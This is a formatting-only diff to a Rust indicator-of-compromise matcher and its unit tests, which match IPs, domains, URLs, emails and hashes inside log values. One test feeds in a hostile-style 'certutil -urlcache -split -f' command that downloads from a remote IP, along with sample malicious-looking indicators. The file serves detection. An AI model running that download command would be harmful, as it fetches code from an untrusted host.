@@ -193,7 +193,10 @@ impl IocSet {
             }
             // host:port
             let tok = if colons == 1 { tok.split(':').next().unwrap_or(tok) } else { tok };
-            if colons == 1 && dots == 3 && let Some(ip) = ipv4(tok) {
+            if colons == 1
+                && dots == 3
+                && let Some(ip) = ipv4(tok)
+            {
                 self.lookup_v4(ip, out);
                 continue;
             }
@@ -236,7 +239,10 @@ impl IocSet {
         while let Some(p) = lower[from..].find("://") {
             let at = from + p;
             let start = lower[..at].rfind(|c: char| !c.is_ascii_alphabetic()).map(|i| i + 1).unwrap_or(0);
-            let end = value[at..].find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`')).map(|e| at + e).unwrap_or(value.len());
+            let end = value[at..]
+                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`'))
+                .map(|e| at + e)
+                .unwrap_or(value.len());
             if let Some(u) = normalise_url(&value[start..end])
                 && let Some(&x) = self.urls.get(u.as_str())
             {
@@ -413,8 +419,15 @@ mod tests {
     #[test]
     fn each_kind_matches_inside_values() {
         let s = set(&[
-            "47.242.39.92", "10.20.0.0/16", "2001:db8::/32", "2001:db8:1::5", "nropnews.com", "http://206.188.196.77:8080/themes.aspx",
-            "bad@evil.example", &"ab".repeat(32), "d41d8cd98f00b204e9800998ecf8427e",
+            "47.242.39.92",
+            "10.20.0.0/16",
+            "2001:db8::/32",
+            "2001:db8:1::5",
+            "nropnews.com",
+            "http://206.188.196.77:8080/themes.aspx",
+            "bad@evil.example",
+            &"ab".repeat(32),
+            "d41d8cd98f00b204e9800998ecf8427e",
         ]);
         assert_eq!(hits(&s, "47.242.39.92"), vec!["47.242.39.92"]);
         assert_eq!(hits(&s, "from 47.242.39.92:443 to x"), vec!["47.242.39.92"]);
@@ -426,9 +439,10 @@ mod tests {
         assert_eq!(hits(&s, "GET https://track.NROPNEWS.com/o/x"), vec!["nropnews.com"], "subdomain, any case");
         assert!(hits(&s, "notnropnews.com").is_empty(), "a longer label is not a subdomain");
         assert!(hits(&s, "nropnews.com.evil.example").is_empty());
-        assert_eq!(hits(&s, r#"certutil -urlcache -split -f http://206.188.196.77:8080/themes.aspx c:\t"#), vec![
-            "http://206.188.196.77:8080/themes.aspx"
-        ]);
+        assert_eq!(
+            hits(&s, r#"certutil -urlcache -split -f http://206.188.196.77:8080/themes.aspx c:\t"#),
+            vec!["http://206.188.196.77:8080/themes.aspx"]
+        );
         assert_eq!(hits(&s, "From: <BAD@evil.example>"), vec!["bad@evil.example"]);
         assert_eq!(hits(&s, &format!("hash={}", "AB".repeat(32))), vec!["ab".repeat(32)]);
         assert_eq!(hits(&s, "D41D8CD98F00B204E9800998ECF8427E"), vec!["d41d8cd98f00b204e9800998ecf8427e"]);
